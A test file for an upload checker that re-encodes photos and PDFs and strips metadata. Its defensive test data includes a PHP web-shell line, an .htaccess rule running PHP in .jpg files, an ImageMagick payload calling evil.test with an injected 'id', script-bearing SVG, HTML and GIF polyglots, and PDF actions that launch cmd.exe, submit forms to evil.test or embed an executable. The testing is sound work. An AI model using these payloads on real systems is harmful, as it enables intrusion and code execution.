import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { type FileType, pictureTypes } from '@counterfoil/contract/files'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { aJpeg, aPdf, hugePng, rewritten } from '#testing/files.ts'
import { checkFile } from './check.ts'

// Other tests check files at the same time, in the usual folder for temporary files.
const temporary = await mkdtemp(join(tmpdir(), 'counterfoil-check-'))
const usual = process.env['TMPDIR']
beforeAll(() => {
  process.env['TMPDIR'] = temporary
})
afterAll(async () => {
  if (usual === undefined) delete process.env['TMPDIR']
  else process.env['TMPDIR'] = usual
  await rm(temporary, { recursive: true })
})

const check = (type: FileType, bytes: Buffer) =>
  checkFile({ collegeId: 'college', ownerId: 'student' }, type, bytes)

describe('a photo', () => {
  it('is drawn anew, upright and without the place where it was taken', async () => {
    const original = await aJpeg({ width: 640, height: 480 })
    const checked = await check('image/jpeg', original)
    if (checked.refusal !== undefined) return expect.fail(checked.refusal)
    expect(original.includes('SECRET-CAMERA')).toBe(true)
    expect(Buffer.from(checked.content).includes('SECRET-CAMERA')).toBe(false)
    const { exif, iptc, xmp, width, height, format } = await sharp(checked.content).metadata()
    expect({ exif, iptc, xmp, width, height, format }).toEqual({ width: 480, height: 640, format: 'jpeg' })
    expect(checked.picture).toEqual({ width: 480, height: 640 })
    expect((await sharp(checked.thumbnail ?? Buffer.alloc(0)).metadata()).height).toBe(320)
  })

  it.each(['png', 'webp'] as const)('of type %s becomes a JPEG', async (format) => {
    const picture = await sharp(await aJpeg())
      [format]()
      .toBuffer()
    expect(await check(`image/${format}`, picture)).toMatchObject({ type: 'image/jpeg' })
  })

  it('is not larger than a screen needs', async () => {
    const checked = await check('image/jpeg', await aJpeg({ width: 5000, height: 1000 }))
    expect(checked).toMatchObject({ picture: { width: 512, height: 2560 } })
  })

  it('T26: with more pixels than fit in memory is refused before they are read', async () => {
    const started = performance.now()
    expect(await check('image/png', hugePng(65_000, 65_000))).toEqual({ refusal: 'too_many_pixels' })
    // Some 150 ms on a quiet machine. Reading 12 GB takes far longer than this.
    expect(performance.now() - started).toBeLessThan(5000)
  })

  it('keeps nothing that was hidden behind it', async () => {
    const polyglot = Buffer.concat([await aJpeg(), Buffer.from('<script>HIDDEN</script>PK\u0003\u0004')])
    const checked = await check('image/jpeg', polyglot)
    if (checked.refusal !== undefined) return expect.fail(checked.refusal)
    expect(Buffer.from(checked.content).includes('HIDDEN')).toBe(false)
  })
})

const script = '<script>alert(1)</script>'
const notPictures: Record<string, string | Buffer> = {
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
  'svg with a declaration': `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  html: `<!doctype html><html>${script}</html>`,
  'html after a JPEG signature': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(script)]),
  'html after a PNG signature': Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    Buffer.from(script),
  ]),
  'gif with a script': `GIF89a/*${'\0'.repeat(20)}*/=1;alert(1)`,
  gif: Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
  bmp: Buffer.concat([Buffer.from('BM'), Buffer.alloc(100)]),
  ico: Buffer.from([0, 0, 1, 0, 1, 0, 1, 1, 0, 0]),
  tiff: Buffer.concat([Buffer.from('II*\0'), Buffer.alloc(64)]),
  heic: Buffer.concat([Buffer.from('\0\0\0\u0018ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(64)]),
  avif: Buffer.concat([Buffer.from('\0\0\0\u0018ftypavif\0\0\0\0mif1avif', 'latin1'), Buffer.alloc(64)]),
  zip: Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(64)]),
  elf: Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(64)]),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(64)]),
  pdf: aPdf(),
  php: '<?php system($_GET["c"]); ?>',
  htaccess: 'AddType application/x-httpd-php .jpg',
  'shell script': '#!/bin/sh\nid',
  'imagemagick script': 'push graphic-context\nviewbox 0 0 640 480\nfill "url(https://evil.test/|id)"\n',
  'vips file': Buffer.concat([Buffer.from([0x08, 0xf2, 0xa6, 0xb6]), Buffer.alloc(100)]),
  zeros: Buffer.alloc(4096),
  'one byte': 'a',
}

describe('T23: what is no photo is refused, whatever it says it is', () => {
  it.each(Object.entries(notPictures))('%s', async (name, bytes) => {
    const type = pictureTypes[name.length % pictureTypes.length] ?? 'image/jpeg'
    expect(await check(type, Buffer.from(bytes as string))).toEqual({ refusal: 'unreadable' })
  })

  it('a photo of which the end is missing', async () => {
    const whole = await aJpeg()
    const half = whole.subarray(0, whole.length / 2)
    expect(await check('image/jpeg', half)).toEqual({ refusal: 'unreadable' })
  })
})

/** PDFs that run, send or open something. The first object of `others` is number 4. */
const active: Record<string, Parameters<typeof aPdf>[0]> = {
  'a script when it opens': { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' },
  'a script in an object of its own': {
    catalogue: '/OpenAction 4 0 R',
    others: ['<< /S /JavaScript /JS (app.alert(1)) >>'],
  },
  'named scripts': {
    catalogue: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
    others: ['<< /S /JavaScript /JS (1) >>'],
  },
  'a script of a page': { page: '/AA << /O << /S /JavaScript /JS (1) >> >>' },
  'a program to start': { catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' },
  'a form that is sent': {
    page: '/Annots [<< /Subtype /Link /A << /S /SubmitForm /F (http://evil.test) >> >>]',
  },
  'data that is read': { page: '/Annots [<< /Subtype /Link /A << /S /ImportData /F (a) >> >>]' },
  'another file that is opened': { catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.test\\\\a.pdf) >>' },
  'a file inside': {
    catalogue: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
    others: [
      '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
      '<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream',
    ],
  },
  'a file at a page': {
    page: '/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]',
    others: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', '<< /Length 0 >>\nstream\n\nendstream'],
  },
  'a form with its own program': { catalogue: '/AcroForm << /XFA (x) /Fields [] >>' },
  'a film': { page: '/Annots [<< /Subtype /Movie /Movie << >> >>]' },
  'rich media': { page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]' },
  'an action after another': {
    catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>',
  },
}

/** Writes names with the codes of their letters, as hostile PDFs do. */
const escaped = (pdf: Buffer) =>
  Buffer.from(
    pdf
      .toString('latin1')
      .replace(
        /\/(JavaScript|JS|Launch|EmbeddedFiles|EF|XFA|SubmitForm|ImportData|GoToR|Movie|RichMedia\w*|FileAttachment|S)\b/g,
        (_all, name: string) =>
          `/${[...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')}`,
      ),
    'latin1',
  )

describe('T23: a PDF that acts by itself is refused', () => {
  it.each(Object.entries(active))(
    '%s, also with other spellings and in compressed objects',
    async (_name, parts) => {
      const plain = aPdf(parts)
      const forms = {
        plain,
        escaped: escaped(plain),
        compressed: rewritten(plain, '--object-streams=generate'),
      }
      for (const [form, pdf] of Object.entries(forms))
        expect(await check('application/pdf', pdf), form).toEqual({ refusal: 'active' })
    },
  )
})

describe('a PDF', () => {
  it('without such things is written anew', async () => {
    const hidden = Buffer.concat([aPdf(), Buffer.from('HIDDEN <script>')])
    const checked = await check('application/pdf', hidden)
    if (checked.refusal !== undefined) return expect.fail(checked.refusal)
    const content = Buffer.from(checked.content)
    expect([content.subarray(0, 5).toString(), content.includes('HIDDEN')]).toEqual(['%PDF-', false])
    expect(checked).toMatchObject({ type: 'application/pdf', thumbnail: null, picture: null })
  })

  it('with a link and a form without scripts is accepted', async () => {
    const pdf = aPdf({
      page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://college.test) >> >>]',
      catalogue: '/AcroForm << /Fields [] >>',
    })
    expect(await check('application/pdf', pdf)).not.toHaveProperty('refusal', expect.anything())
  })

  it.each([
    ['that asks for a password', ['--encrypt', 'user', 'owner', '256', '--']],
    ['that is only locked against changes', ['--encrypt', '', 'owner', '256', '--']],
  ])('%s is refused', async (_name, options) => {
    expect(await check('application/pdf', rewritten(aPdf(), ...options))).toEqual({ refusal: 'locked' })
  })

  it.each(Object.entries(notPictures).filter(([name]) => name !== 'pdf'))(
    'is not %s',
    async (_name, bytes) => {
      expect(await check('application/pdf', Buffer.from(bytes as string))).toEqual({ refusal: 'unreadable' })
    },
  )
})

it('leaves nothing behind in the folder for temporary files', async () => {
  await Promise.all([check('image/jpeg', await aJpeg()), check('image/png', Buffer.from('no'))])
  expect(await readdir(temporary)).toEqual([])
})

it('says nothing about a file if the process is ended from outside, as when the worker is stopped', async () => {
  const checked = check('image/jpeg', await aJpeg({ width: 4000, height: 3000 }))
  const ended = expect(checked).rejects.toThrow('ended by SIGTERM')
  const isCheck = (pid: string) => {
    const words = existsSync(`/proc/${pid}/cmdline`) ? readFileSync(`/proc/${pid}/cmdline`, 'utf8') : ''
    return words.includes('check-picture.ts') && words.includes(temporary)
  }
  let pid: string | undefined
  while (pid === undefined) {
    await wait(5)
    pid = readdirSync('/proc').find((name) => /^\d+$/.test(name) && isCheck(name))
  }
  process.kill(Number(pid), 'SIGTERM')
  await ended
})
